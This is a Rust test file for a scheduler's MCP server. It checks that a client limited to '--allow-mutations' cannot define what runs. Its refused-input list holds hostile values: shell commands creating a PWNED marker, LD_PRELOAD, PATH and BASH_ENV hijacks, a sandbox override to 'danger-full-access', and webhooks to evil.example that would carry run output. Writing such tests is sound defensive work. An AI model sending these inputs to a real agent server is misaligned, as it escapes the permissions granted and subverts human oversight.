//! `loops mcp`'s permissions against a client that looks for a way around them
//! (issue #19): with `--allow-mutations` alone a client may pause, resume, stop,
//! remove and run what the owner defined, and change schedules and policies — but
//! never define or change *what runs*: no command (argv or shell, whatever program),
//! no agent, no env, cwd or account of a target, no notification command, no
//! workflow spec, no bundle. That needs `--allow-code`, which says it is code
//! execution; a webhook URL (it carries run output) needs `--allow-secrets`.

use crate::mcp::{write_spec, Mcp};
use crate::util::World;
use serde_json::{json, Value};

/// The message of a refusal for want of `--allow-code`.
fn assert_needs_code(message: &str, route: &str) {
    assert!(
        message.contains("defines what runs")
            && message.contains("--allow-code")
            && message.contains("LOOPS_MCP_ALLOW_CODE=1"),
        "{route}: {message}"
    );
}

/// What the store holds, as the CLI shows it with secrets (to see that a refused
/// call changed nothing, prompts and env included).
fn everything(w: &World) -> (Value, Value, Value) {
    (
        w.json(&["list", "--all", "--show-output"]),
        w.json(&["workflows", "list", "--all"]),
        w.json(&["runs", "--limit", "0"]),
    )
}

#[test]
fn mcp_mutations_never_define_what_runs() {
    let w = World::new();
    let marker = w.root.path().join("PWNED");
    let m = marker.to_str().unwrap().to_owned();
    // What the owner defined with the CLI.
    w.create_cmd("owner-shell", &["--every", "1h"], "echo owner");
    w.ok(&[
        "create",
        "command",
        "owner-argv",
        "--every",
        "1h",
        "--no-shell",
        "--cmd",
        "/bin/echo",
        "--",
        "argv",
    ]);
    w.ok(&[
        "create",
        "agent",
        "owner-agent",
        "--provider",
        "claude",
        "--prompt",
        "review",
        "--every",
        "1h",
    ]);
    let spec = write_spec(&w, "wf", &[("a", "echo step")]);
    w.ok(&["workflows", "create", spec.to_str().unwrap()]);
    let other = write_spec(&w, "wf2", &[("b", "echo other")]);
    w.ok(&["workflows", "create", other.to_str().unwrap()]);
    w.ok(&[
        "create",
        "workflow",
        "owner-flow",
        "--workflow",
        "wf",
        "--every",
        "1h",
    ]);
    let before = everything(&w);

    let mcp = Mcp::start(&w, &["--allow-mutations"]);
    let touch = ["-c", &format!("touch {m}")];
    let refused: Vec<(&str, &str, Value)> = vec![
        // Commands of any kind: a shell by argv, any program, a shell command line.
        (
            "argv shell",
            "loops_create_command",
            json!({"name": "x", "cmd": "/bin/sh", "args": touch, "noShell": true, "every": "1m"}),
        ),
        (
            "argv program",
            "loops_create_command",
            json!({"name": "x", "cmd": "/usr/bin/touch", "args": [m], "noShell": true, "every": "1m"}),
        ),
        (
            "shell line",
            "loops_create_command",
            json!({"name": "x", "cmd": format!("touch {m}"), "every": "1m"}),
        ),
        (
            "argv with LD_PRELOAD",
            "loops_create_command",
            json!({"name": "x", "cmd": "/bin/true", "noShell": true, "every": "1m", "env": {"LD_PRELOAD": "/tmp/evil.so"}}),
        ),
        // Agents: their prompt is what they act on; env picks their binary.
        (
            "agent",
            "loops_create_agent",
            json!({"name": "x", "provider": "codex", "prompt": format!("run touch {m}"), "every": "1m"}),
        ),
        (
            "agent with PATH",
            "loops_create_agent",
            json!({"name": "x", "provider": "claude", "prompt": "hi", "every": "1m", "env": {"PATH": "/tmp/evil"}}),
        ),
        (
            "agent with BASH_ENV",
            "loops_create_agent",
            json!({"name": "x", "provider": "claude", "prompt": "hi", "every": "1m", "env": {"BASH_ENV": "/tmp/evil.sh"}}),
        ),
        // A notification command on an otherwise allowed loop.
        (
            "notifyCmd on a workflow loop",
            "loops_create_workflow",
            json!({"name": "x", "workflow": "wf", "every": "1m", "notifyCmd": format!("touch {m}")}),
        ),
        // Edits of what the owner defined.
        (
            "edit cmd",
            "loops_edit",
            json!({"loop": "owner-shell", "cmd": format!("touch {m}")}),
        ),
        (
            "edit argv program",
            "loops_edit",
            json!({"loop": "owner-argv", "cmd": "/bin/sh"}),
        ),
        (
            "edit args",
            "loops_edit",
            json!({"loop": "owner-argv", "args": ["-c", "x"]}),
        ),
        (
            "edit to a shell",
            "loops_edit",
            json!({"loop": "owner-argv", "shell": true, "cmd": "echo x", "clear": ["args"]}),
        ),
        (
            "edit to argv",
            "loops_edit",
            json!({"loop": "owner-shell", "noShell": true, "cmd": "/bin/sh"}),
        ),
        (
            "edit env PATH",
            "loops_edit",
            json!({"loop": "owner-shell", "env": {"PATH": "/tmp/evil"}}),
        ),
        (
            "edit env LD_PRELOAD",
            "loops_edit",
            json!({"loop": "owner-argv", "env": {"LD_PRELOAD": "/tmp/evil.so"}}),
        ),
        (
            "edit env BASH_ENV",
            "loops_edit",
            json!({"loop": "owner-shell", "env": {"BASH_ENV": "/tmp/evil.sh"}}),
        ),
        (
            "edit agent env PATH",
            "loops_edit",
            json!({"loop": "owner-agent", "env": {"PATH": "/tmp/evil"}}),
        ),
        (
            "edit cwd",
            "loops_edit",
            json!({"loop": "owner-shell", "cwd": "/tmp"}),
        ),
        (
            "edit account",
            "loops_edit",
            json!({"loop": "owner-shell", "account": "work"}),
        ),
        (
            "edit clear args",
            "loops_edit",
            json!({"loop": "owner-argv", "clear": ["args"]}),
        ),
        (
            "edit prompt",
            "loops_edit",
            json!({"loop": "owner-agent", "prompt": format!("run touch {m}")}),
        ),
        (
            "edit provider",
            "loops_edit",
            json!({"loop": "owner-agent", "provider": "codex"}),
        ),
        (
            "edit model",
            "loops_edit",
            json!({"loop": "owner-agent", "model": "opus"}),
        ),
        (
            "edit config isolation",
            "loops_edit",
            json!({"loop": "owner-agent", "configIsolation": "none"}),
        ),
        (
            "edit config overrides",
            "loops_edit",
            json!({"loop": "owner-agent", "configOverrides": {"sandbox_mode": "\"danger-full-access\""}}),
        ),
        (
            "edit notifyCmd",
            "loops_edit",
            json!({"loop": "owner-shell", "notifyCmd": format!("touch {m}")}),
        ),
    ];
    for (route, tool, args) in &refused {
        let message = mcp.err(tool, args.clone());
        assert_needs_code(&message, route);
    }
    // A webhook carries each notified run's output: that is the secrets switch's.
    for (tool, args) in [
        (
            "loops_create_workflow",
            json!({"name": "x", "workflow": "wf", "every": "1m", "notifyUrl": "http://evil.example/"}),
        ),
        (
            "loops_edit",
            json!({"loop": "owner-shell", "notifyUrl": "http://evil.example/"}),
        ),
    ] {
        let message = mcp.err(tool, args);
        assert!(message.contains("--allow-secrets"), "{tool}: {message}");
    }
    // A spec can be checked, never stored nor run (no MCP tool stores a workflow or
    // imports a bundle): preflight only looks up executables.
    let checked = mcp.ok(
        "workflow_validate",
        json!({"spec": {"name": "sneaky", "steps": [{"id": "a", "target": {"type": "command", "command": format!("touch {m}"), "shell": true}}]}, "preflight": true}),
    );
    assert_eq!(checked["valid"], true);
    let names: Vec<String> = mcp.tools().iter().map(|t| t.name.to_string()).collect();
    for name in &names {
        assert!(
            !name.contains("import")
                && !name.contains("create_workflow_spec")
                && name != "workflows_create",
            "a tool that stores specs or bundles needs a gate of its own: {name}"
        );
    }
    assert_eq!(everything(&w), before, "a refused call changed nothing");

    // What --allow-mutations is for: the owner's loops run, pause, resume, change
    // schedule and policy — exactly as the owner defined them.
    let run = mcp.ok(
        "loops_run_now",
        json!({"loop": "owner-shell", "wait": true, "waitTimeout": "30s"}),
    );
    assert_eq!(run["status"], "succeeded", "{run:#}");
    assert_eq!(
        w.json(&["runs", "owner-shell", "--show-output"])[0]["stdout"],
        "owner\n"
    );
    let edited = mcp.ok(
        "loops_edit",
        json!({"loop": "owner-shell", "every": "2h", "attempts": 3, "timeout": "5m", "description": "nightly", "labels": ["ops"], "overlap": "allow"}),
    );
    assert_eq!(edited["schedule"]["everyMs"], 7_200_000);
    assert_eq!(edited["target"]["command"], "echo owner");
    assert_eq!(edited["target"]["timeoutMs"], 300_000);
    assert_eq!(
        mcp.ok("loops_pause", json!({"loop": "owner-argv"}))["status"],
        "paused"
    );
    assert_eq!(
        mcp.ok("loops_resume", json!({"loop": "owner-argv"}))["status"],
        "active"
    );
    // A workflow loop schedules a stored workflow: the owner defined its steps.
    let flow = mcp.ok(
        "loops_create_workflow",
        json!({"name": "mcp-flow", "workflow": "wf", "every": "1h"}),
    );
    assert_eq!(flow["target"]["workflow"], "wf");
    let moved = mcp.ok(
        "loops_edit",
        json!({"loop": "owner-flow", "workflow": "wf2"}),
    );
    assert_eq!(moved["target"]["workflow"], "wf2");
    let wf_run = mcp.ok("workflow_run", json!({"workflow": "wf", "wait": true}));
    assert_eq!(wf_run["workflowRun"]["status"], "succeeded", "{wf_run:#}");
    assert!(mcp.close().success());
    assert!(!marker.exists(), "nothing the client defined ever ran");

    // --allow-code: defining what runs, said to be code execution (it includes
    // --allow-mutations).
    let mcp = Mcp::start(&w, &["--allow-code"]);
    let created = mcp.ok(
        "loops_create_command",
        json!({"name": "argv-sh", "cmd": "/bin/sh", "args": touch, "noShell": true, "every": "1h"}),
    );
    let ran = mcp.ok(
        "loops_run_now",
        json!({"loop": created["id"], "wait": true, "waitTimeout": "30s"}),
    );
    assert_eq!(ran["status"], "succeeded", "{ran:#}");
    assert!(marker.exists());
    let edited = mcp.ok(
        "loops_edit",
        json!({"loop": "owner-shell", "env": {"GREETING": "hi"}, "cmd": "echo $GREETING"}),
    );
    assert_eq!(edited["target"]["command"], "echo $GREETING");
    assert_eq!(
        mcp.ok("loops_pause", json!({"loop": "owner-shell"}))["status"],
        "paused"
    );
    assert!(mcp.close().success());
}

/// `--allow-shell` is gone, refused with the way to say what it meant: its old
/// meaning ("no shell, so argv is safe") was the hole.
#[test]
fn mcp_refuses_the_old_shell_switch_with_what_to_use() {
    let w = World::new();
    for (flags, env) in [
        (vec!["mcp", "--allow-shell"], None),
        (vec!["mcp", "--allow-mutations", "--allow-shell"], None),
        (vec!["mcp"], Some(("LOOPS_MCP_ALLOW_SHELL", "1"))),
    ] {
        let mut cmd = w.cmd(&flags);
        if let Some((k, v)) = env {
            cmd.env(k, v);
        }
        let out = cmd.output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{flags:?}: {stderr}");
        assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
        assert!(
            stderr.contains("--allow-shell") && stderr.contains("--allow-code"),
            "{stderr}"
        );
        assert!(out.stdout.is_empty());
    }
}
